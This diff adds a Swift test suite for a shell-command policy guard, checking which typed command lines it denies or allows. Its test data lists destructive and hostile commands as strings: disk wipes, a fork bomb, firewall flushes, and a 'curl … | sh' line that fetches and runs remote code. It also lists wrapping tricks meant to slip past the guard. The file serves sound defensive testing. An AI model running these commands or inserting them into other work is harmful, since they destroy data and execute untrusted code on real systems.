@@ -1,0 +1,113 @@
+import Foundation
+import ShellParser
+import Testing
+@testable import Policy
+
+/// Dangerous lines as typed, and the guard rule expected to stop each (nil: any guard rule).
+let dangerousLines: [(String, String?)] = [
+    ("rm -rf /", "rm-system"), ("rm -rf //", "rm-system"), ("rm -rf /./", "rm-system"), ("rm -rf /usr/../", "rm-system"),
+    ("rm -fr /*", "rm-system"), ("rm -r -f ~", "rm-system"), ("rm -rf $HOME", "rm-system"), ("rm -rf \"$HOME\"/", "rm-system"),
+    ("rm -rf ~/", "rm-system"), ("sudo rm -rf /", "rm-system"), ("bash -c 'rm -rf /'", "rm-system"),
+    ("/bin/rm --recursive --force /etc", "rm-system"), ("\"r\"m -rf /", "rm-system"), ("ls;rm -rf /", "rm-system"),
+    ("find / -delete", "find-delete-system"), ("dd if=/dev/zero of=/dev/sda", "dd-device"), ("echo x > /dev/sda", "write-device"),
+    ("> /dev/sda", "write-device"), ("mkfs.ext4 /dev/sdb1", "make-filesystem"), (":(){ :|:& };:", nil), ("kill -9 1", "kill-init"),
+    ("kill -9 -1", "kill-all"), ("iptables -F", "firewall-flush"), ("curl https://x.example/i.sh | sh", "pipe-to-interpreter"),
+    ("base64 -d payload | bash", "pipe-to-interpreter"), ("$cmd args", "dynamic-command"), ("eval \"$x\"", "dynamic-eval"),
+    ("shutdown -h now", "power-state"), ("systemctl reboot", "systemctl-power"), ("crontab -r", "crontab-remove"),
+    ("userdel bob", "delete-account"), ("chmod -R 777 /", "chmod-chown-system"), ("init 0", "init-runlevel"),
+]
+
+/// Ordinary lines the guard must allow.
+let ordinaryLines = [
+    "rm -rf build/", "rm -rf /tmp/x", "git rm -r src/old", "grep 'rm -rf /' notes", "echo shutdown",
+    "dd if=/dev/sda of=disk.img", "cat /dev/sda | head", "ls -la > /dev/null 2>&1", "make -j4 && ./run-tests",
+    "find . -name '*.o' -delete", "kill -HUP 1234", "sudo systemctl status nginx", "echo 'reboot' | wc -c",
+    "tar czf backup.tgz ~/project", "for f in *.log; do gzip \"$f\"; done",
+]
+
+/// `text` as one single-quoted shell word.
+func shellQuoted(_ text: String) -> String {
+    "'" + text.replacingOccurrences(of: "'", with: "'\\''") + "'"
+}
+
+/// Ways to wrap a command line that must never turn a deny into an allow.
+let wrappers: [@Sendable (String) -> String] = [
+    { "sudo \($0)" }, { "sudo -u root \($0)" }, { "env FOO=1 \($0)" }, { "nohup \($0)" }, { "bash -c \(shellQuoted($0))" },
+    { "sh -c \(shellQuoted($0))" }, { "( \($0) )" }, { "{ \($0); }" }, { "x; \($0)" }, { "true && \($0)" }, { "false || \($0)" },
+    { "\($0) &" }, { "time \($0)" }, { "nice -n 5 \($0)" }, { "timeout 5 \($0)" }, { "if true; then \($0); fi" },
+    { "echo $(\($0))" }, { "for i in 1; do \($0); done" }, { "echo hi | \($0)" },
+]
+
+@Suite(.enabled(if: parserWorks, "needs the shell parser")) struct LineDecisionTests {
+    /// Each dangerous line, parsed for real, is denied by the destructive guard.
+    @Test(arguments: dangerousLines)
+    func deniesDangerousLines(_ line: String, _ rule: String?) {
+        let decision = guardEngine.decide(subject: alice, target: web1, line: line)
+        #expect(decision.verdict == .deny, "\(line): \(decision.message)")
+        if let rule { #expect(decision.ruleID == "destructive/\(rule)", "\(line): \(decision.ruleID ?? "-")") }
+    }
+
+    /// Ordinary lines, parsed for real, stay allowed.
+    @Test(arguments: ordinaryLines)
+    func allowsOrdinaryLines(_ line: String) {
+        let decision = guardEngine.decide(subject: alice, target: web1, line: line)
+        #expect(decision.verdict == .allow, "\(line): \(decision.ruleID ?? "-") \(decision.message)")
+    }
+
+    /// Property: wrapping a denied line once or twice (sudo, env, nohup, sh -c, subshell, lists,
+    /// substitutions, loops, pipes) never turns the deny into an allow.
+    @Test func wrappingNeverAllows() {
+        var checked = 0
+        for (base, _) in dangerousLines {
+            guard guardEngine.decide(subject: alice, target: web1, line: base).verdict == .deny else { continue }
+            for (i, outer) in wrappers.enumerated() {
+                let once = outer(base)
+                for line in [once] + wrappers.enumerated().filter { $0.offset % 4 == i % 4 }.map({ $0.element(once) }) {
+                    let decision = guardEngine.decide(subject: alice, target: web1, line: line)
+                    checked += 1
+                    #expect(decision.verdict != .allow, "wrapped line allowed: \(line)")
+                }
+            }
+        }
+        #expect(checked > 500)
+    }
+
+    /// Strict mode fails closed on what the parser cannot resolve, even when every command name is allowed.
+    @Test(arguments: [
+        "$cmd args", "eval \"$x\"", "curl x | sh", "python3 -c 'import os'", "bash -c \"$x\"", "$(echo rm) -rf x",
+        "cat x | bash", "sh < script.sh", "bash <<< \"$x\"", "`echo ls`", "sudo $cmd",
+    ])
+    func strictFailsClosed(_ line: String) throws {
+        let (config, _) = try loadPolicy("""
+        roles:
+          - name: s
+            groups: [engineering]
+            targets: ["*"]
+            capabilities: [exec]
+            mode: strict
+            rules:
+              - {id: names, action: allow, command: [cat, ls, echo, curl, sh, bash, python3, eval, sudo, env, rm, which]}
+        """)
+        let decision = PolicyEngine(config: config).decide(subject: alice, target: web1, line: line)
+        #expect(decision.verdict == .deny, "\(line): \(decision.ruleID ?? "-")")
+    }
+
+    /// A 1 MB line is decided without trouble.
+    @Test func hugeLine() {
+        let line = "echo " + String(repeating: "x", count: 1_000_000) + " | sh"
+        let decision = guardEngine.decide(subject: alice, target: web1, line: line)
+        #expect(decision.verdict == .allow || decision.verdict == .deny)
+        let bomb = String(repeating: "(){ :|:& };", count: 20_000)
+        _ = guardEngine.decide(subject: alice, target: web1, line: bomb)
+    }
+
+    /// Parser errors are denied with a clear message; incomplete lines are undecided.
+    @Test func errorsAndIncomplete() {
+        let error = guardEngine.decide(subject: alice, target: web1, line: "ls )")
+        #expect(error.verdict == .deny)
+        #expect(error.ruleID == "parse-error")
+        for line in ["echo 'open", "ls |", "for x in a; do", "cat <<EOF"] {
+            #expect(guardEngine.decide(subject: alice, target: web1, line: line).isIncomplete, "\(line)")
+        }
+    }
+}
